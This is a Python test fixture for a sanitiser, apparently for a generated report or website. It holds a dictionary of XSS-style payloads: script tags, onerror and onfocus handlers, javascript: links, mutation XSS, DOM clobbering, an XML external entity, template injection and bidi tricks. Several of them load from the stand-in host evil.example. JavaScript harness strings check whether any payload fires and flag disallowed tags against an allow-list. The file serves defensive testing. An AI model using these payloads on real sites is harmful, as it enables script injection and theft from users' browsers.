"""Hostile texts, as feeds, filings, models and notebooks might bring them.

Each tries to run ``pwn`` with its own name, to load something from evil.example, to lead the page
away, to pose as a part of it or to hide what follows. A click on what is called "trap" is the
reader's own mistake that must not help.
"""

from __future__ import annotations

EVIL = "https://evil.example"
PAYLOADS: dict[str, str] = {
    "script": "<script>pwn('script')</script>",
    "script in pieces": "<scr<script>ipt>pwn('p')</scr</script>ipt><SCRIPT/x>pwn('p')</SCRIPT>",
    "image's error": "<img src=x onerror=pwn('image')><image/src/onerror=pwn('image')>",
    "svg": "<svg onload=pwn('svg')><animate onbegin=pwn('svg') attributeName=x dur=1s></svg>",
    "toggle": "<details open ontoggle=pwn('toggle')><summary>trap</summary>x</details>",
    "autofocus": "<input autofocus onfocus=pwn('focus')><p tabindex=0 onfocus=pwn('focus')>x</p>",
    "javascript link": "<a href='javascript:pwn(1)'>trap</a><a href=JaVaScRiPt&colon;pwn(2)>trap"
    "</a><a href='java&#x0A;script&#58;pwn(3)'>trap</a>"
    "<a href=' &#14; javascript:pwn(4)'>trap</a>",
    "markdown link": "[trap](javascript:pwn(5)) [trap](<java\tscript:pwn(6)>) "
    "![x](javascript:pwn(7)) <javascript:pwn(8)> [trap][z]\n\n[z]: javascript:pwn(9)\n",
    "style": f"<style>*{{display:none!important;background:url({EVIL}/s)}}</style><p style="
    f"'position:fixed;inset:0;background:url({EVIL}/s);width:expression(pwn(10))'>x</p>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    "base": f"<base href={EVIL}/ target=_top>",
    "frame": "<iframe srcdoc='<script>parent.pwn(11)</script>' onload=pwn(11)></iframe><frameset>",
    "form": f"<form action={EVIL}/form><input name=action value=1><button formaction="
    "javascript:pwn(12)>trap</button></form>",
    "ping": f"<a href='#x' ping={EVIL}/ping onclick=pwn(13)>trap</a>",
    "comment": "--><script>pwn(14)</script><!-- --!><img src=x onerror=pwn(14)> <!--><b>-->",
    "end of a raw text": "</title></style></textarea></noscript></script><script>pwn(15)</script>"
    "]]><img src=x onerror=pwn(15)>",
    "line separators": "\u2028pwn(16)//\u2029'\"];pwn(16)//\\\u2028\r\n*/pwn(16);`${pwn(16)}`",
    "nulls": "<scr\x00ipt>pwn(17)</scr\x00ipt>\x00<img\x0csrc=x\x0bonerror=pwn(17)>"
    "\x1b[31m\x08\x7f",
    "other direction": "\u202e%24 esir lliw\u202c \u2066\u202dx\u2069 \u2067y \u200f\u061c up 42 %"
    " &#x202e;%24 &#8238;%24",
    "template": "{{ 7*7 }}{% raw %}${pwn(18)}#{pwn(18)}<%= pwn(18) %>"
    "{{constructor.constructor('pwn(18)')()}}{# x #}",
    "mathjax": "$\\href{javascript:pwn(19)}{trap}$ $$\\unicode{<img src=x onerror=pwn(19)>}$$ "
    "\\(\\style{background:red}{x}\\) <math href=javascript:pwn(19)>trap</math>",
    "data address": "<a href='data:text/html,<script>top.pwn(20)</script>'>trap</a>"
    "<img src='data:image/svg+xml,<svg xmlns=x onload=pwn(20)>'>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e><applet code=x></applet>"
    "<video src=x onerror=pwn(21)><source onerror=pwn(21)></video>",
    "clobber": "<a id=module></a><b id=exports>x</b><b id=define>x</b><form name=getElementById>"
    "<input name=attributes></form><b id=Plotly>x</b><b id=workbenchTitles>x</b>"
    "<p id=desk-main>x</p><b id=document>x</b><b id=process>x</b><b id=self>x</b>",
    "mutation in math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img"
    " src=1 onerror=pwn(22)&gt;'>",
    "mutation in svg": "<svg></p><style><a id='</style><img src=1 onerror=pwn(23)>'>"
    "<noscript><p title='</noscript><img src=x onerror=pwn(23)>'>",
    "end of an attribute": "\" onmouseover=\"pwn(24)\" autofocus onfocus='pwn(24)' x='",
    "shadow": "<template shadowrootmode=open><script>pwn(25)</script></template><slot></slot>"
    "<dialog open>trap</dialog><xmp><plaintext>",
    "sheet": f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/x>"
    f"<script src={EVIL}/x.js></script><style>@import '{EVIL}/x.css'</style>",
    "entity": f"<!DOCTYPE x [<!ENTITY e SYSTEM '{EVIL}/e'>]>&e;<?xml-stylesheet href='{EVIL}/x'?>"
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn(26)</x:script>",
    "encoded": "&lt;script&gt;pwn(27)&lt;/script&gt;&#60;img src=x onerror=pwn(27)&#62;"
    "\\u003cscript>pwn(27)\\u003c/script>＜script＞pwn(27)＜/script＞",
    "markdown html": "\n\n# A heading\n\n<div>\n\n```html\n<script>pwn(28)</script>\n\n| a | b |\n"
    "|---|---|\n| <img src=x onerror=pwn(28)> | ~~~ |\n\n---\n> q\n",
}  # fmt: skip

# Runs before a page's own scripts, whatever its policy: what fired, and what only the policy
# stopped. A page on which the policy had to stop anything had a hole above it.
WATCH = """
window.pwned = [];
window.pwn = (name) => { window.pwned.push(String(name)); };
document.addEventListener("securitypolicyviolation", (event) => {
  window.pwned.push(`only the policy stopped ${event.violatedDirective}: ${event.blockedURI}`);
});
"""
# Everything that a reader could touch is touched; what fired is returned.
TOUCH = """() => {
  for (const one of document.querySelectorAll("details")) one.open = true;
  for (const one of document.querySelectorAll("*")) {
    for (const kind of ["mouseover", "mouseenter", "pointerenter", "focus", "focusin", "toggle",
                        "load", "error", "begin", "animationend", "wheel", "copy"])
      one.dispatchEvent(new Event(kind));
    if (/^(A|BUTTON|SUMMARY|P|B|DIALOG)$/i.test(one.tagName) && one.textContent.trim() === "trap")
      one.click();
  }
  return window.pwned;
}"""
# The page's shape: every element with its depth, its attributes' names, and the values of those
# that a browser or a script acts on. Words in it are free to differ.
SHAPE = """() => {
  const acts = new Set(["href", "src", "class", "style", "type", "name", "http-equiv", "role",
                        "tabindex", "rel"]);
  const shape = [];
  const walk = (one, depth) => {
    const value = (a) => acts.has(a.name) && one.tagName !== "META"
      ? `=${a.value.replace(/^.*\\/site\\//, "")}` : "";
    const names = [...one.attributes].map((a) => a.name + value(a));
    shape.push(`${" ".repeat(depth)}${one.tagName}[${names.sort().join(" ")}]`);
    if (!one.classList.contains("chart")) for (const each of one.children) walk(each, depth + 1);
  };
  walk(document.documentElement, 0);
  return shape;
}"""
# What stands on the page that no sanitised text may bring, by an allow-list.
STRANGE = """() => {
  const TAGS = new Set(("A ABBR ARTICLE ASIDE B BLOCKQUOTE BODY BR CAPTION CODE DD DEL DETAILS DIV "
    + "DL DT EM FIGCAPTION FIGURE FOOTER H1 H2 H3 H4 HEAD HEADER HR HTML I IMG LI LINK MAIN MARK "
    + "META NAV OL P PRE S SCRIPT SECTION SMALL SPAN STRONG STYLE SUB SUMMARY SUP TABLE TBODY TD "
    + "TFOOT TH THEAD TIME TITLE TR U UL svg line circle text").split(" "));
  const ATTRIBUTES = new Set(("href title id class role tabindex colspan rowspan start scope "
    + "datetime lang charset content name http-equiv rel type src defer alt style download "
    + "viewBox x1 x2 y1 y2 cx cy r x y text-anchor").split(" "));
  const found = [];
  const walk = (one) => {
    if (one.id === "js-plotly-tester") return; // where plotly measures its own words
    const chart = one.classList.contains("chart");
    if (!TAGS.has(one.tagName)) found.push(`<${one.tagName}>`);
    for (const a of one.attributes) {
      if (!ATTRIBUTES.has(a.name) && !/^(aria|data)-[a-z]+$/.test(a.name))
        found.push(`${one.tagName} ${a.name}`);
      if (a.name === "style" && !chart) found.push(`${one.tagName} style=${a.value}`);
    }
    if (one.tagName === "A" && one.hasAttribute("href") && !/^(file|https):$/.test(one.protocol))
      found.push(`a link to ${one.protocol}`);
    if (one.tagName === "SCRIPT" && !/assets\\/[a-z.]+\\.js$/.test(one.src))
      found.push("a script");
    if (one.tagName === "IMG" && !one.src.startsWith("data:image/png;base64,"))
      found.push("an image");
    if (one.tagName === "STYLE" && one.closest("main")) found.push("a style");
    if (!chart) for (const each of one.children) walk(each);
  };
  walk(document.documentElement);
  for (const one of document.querySelectorAll(".chart"))
    for (const each of one.querySelectorAll("script, iframe, img, image, foreignObject, object, a"))
      if (each.tagName !== "image" || each.getAttribute("href"))
        found.push(`a chart's ${each.tagName}`);
  return [...new Set(found)];
}"""
